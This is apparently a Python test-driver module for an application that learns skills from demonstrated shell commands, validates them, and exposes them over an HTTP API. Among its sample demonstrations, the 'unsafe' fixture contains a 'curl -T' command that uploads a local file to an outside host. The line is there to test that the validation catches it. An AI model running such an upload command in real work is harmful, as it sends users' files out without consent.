"""The real application under the model: HTTP from a thread of its own, looked into where the API shows less."""

from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

import httpx
from anyio.from_thread import BlockingPortal

from contracts.abilities.availability import AbilityAvailabilitySnapshot
from tests.fixtures.learner import Demonstrated, Learner
from tests.fixtures.stack import Stack
from tests.model.reference import LADDER

NOBODY = "01936f5e-0000-7000-8000-00000000ffff"
"""An id that nothing has."""

KINDS = ("good", "failing", "unsafe", "slow")
"""Demonstrations by what becomes of their rehearsal."""


def shown(kind: str, goal: str) -> tuple[Demonstrated, ...]:
    """A demonstration; its files are named after its goal, since a skill answers to their names too."""
    first, second, third = (f"{word.lower()}.txt" for word in goal.split())
    made = (f"printf 'a' > {first}", (first,))
    return {
        "good": (made,),
        "failing": ((f"sort {second} > {third}", (third,)),),
        "unsafe": (made, (f"curl -T {first} https://example.org/", ())),
        "slow": ((f"sleep 300 > {first}", (first,)),),
    }[kind]


def shown_after(goal: str) -> tuple[Demonstrated, ...]:
    """What is shown after that; it changes nothing of the outcome."""
    name = f"{goal.split()[-1]}-more.txt"
    return ((f"printf 'b' > {name}", (name,)),)


_SYLLABLES = ("ba", "ce", "di", "fo", "gu", "la", "me", "ni", "po", "ru")


def goal_number(number: int) -> str:
    """A goal that shares no word with that of another number below 1,000, so that no two skills collide."""
    words = (
        "".join(_SYLLABLES[int(digit)] for digit in f"{number * factor % 1009:04}")
        for factor in (7, 389, 701)
    )
    return " ".join(words).capitalize()


@dataclass(frozen=True)
class Sent:
    """A command that was sent, so that it can be sent again."""

    method: str
    path: str
    body: Any
    key: str


@dataclass(frozen=True)
class Driver:
    """One user at the application."""

    portal: BlockingPortal
    stack: Stack
    learner: Learner

    def send(self, sent: Sent) -> httpx.Response:
        """One request under its key."""
        return self._call(sent.method, sent.path, sent.body, sent.key)

    def get(self, path: str) -> Any:
        """What a reader is shown."""
        response = self._call("GET", path)
        assert response.is_success, response.text
        return response.json()

    def lookup(self, query: str) -> list[dict[str, Any]]:
        """What is found for words."""
        answer = self._call("POST", "/api/abilities/lookup", {"user_query": query})
        matches: list[dict[str, Any]] = answer.json()["matches"]
        return matches

    def states(self) -> dict[str, str]:
        """The state of every session of the user."""
        sessions = self.get("/api/learn/sessions?page_size=100")["sessions"]
        return {session["learn_session_id"]: session["state"] for session in sessions}

    def settle(self, session_id: str) -> None:
        """Waits until the session's validation has ended."""

        async def settled() -> None:
            self.learner.session_id = session_id
            await self.learner.settled("testing_proposal")

        self.portal.call(settled)

    def events(self, session_id: str, shown: Iterable[Demonstrated]) -> list[dict[str, Any]]:
        """Events as a recorder would report them."""
        self.learner.session_id = session_id
        return self.learner.events(shown)

    def lanes(self) -> dict[str, str]:
        """The lane of each ability that the user owns, as the store has it."""
        entries = self.stack.services.abilities.entries()
        return {e.ability_id: e.install_lane.value for e in entries if e.owner_user_id == self.learner.user}

    def unproven(self) -> list[str]:
        """The user's abilities with a version whose very content has not passed the whole ladder."""
        found: list[str] = []
        for ability_id in self.lanes():
            for version in self.get(f"/api/abilities/{ability_id}/versions")["versions"]:
                runs = self.get(f"/api/learn/proposals/{version['proposal_id']}/validation-runs")["runs"]
                passed = {
                    ref.removeprefix("check:")
                    for run in runs
                    if run["content_hash"] == version["content_hash"] and run["overall_result"] == "passed"
                    for ref in run["result_refs"]
                }
                if not passed >= set(LADDER):
                    found.append(ability_id)
        return found

    def failed_steps(self, proposal_id: str | None) -> list[dict[str, Any]]:
        """The cases that failed in any of a proposal's runs."""
        steps = self.get(f"/api/learn/proposals/{proposal_id}/validation-runs?page_size=100")["steps"]
        return [step for step in steps if step["result"] == "failed"]

    def marks(self, session_id: str) -> int:
        """How many boundaries the session has."""
        return len(self.stack.services.observations.boundaries_of(session_id))

    def snapshot_is_the_store(self) -> bool:
        """Whether file, list and store tell the same of which abilities there are."""
        file = self.stack.settings.memory_root / "system/abilities/availability_current.json"
        entries = {entry.ability_id: entry for entry in self.stack.services.abilities.entries()}
        written = (
            AbilityAvailabilitySnapshot.model_validate_json(file.read_bytes()).abilities
            if file.exists()
            else ()
        )
        listed = self.get("/api/abilities/availability")["abilities"]
        own = {
            item["ability_id"]: item["install_lane"] for item in listed if item["ability_id"] in self.lanes()
        }
        return {entry.ability_id: entry for entry in written} == entries and own == self.lanes()

    def _call(self, method: str, path: str, body: Any = None, key: str | None = None) -> httpx.Response:
        async def call() -> httpx.Response:
            headers = {"idempotency_key": key} if key else {}
            return await self.learner.call(method, path, body, **headers)

        return self.portal.call(call)
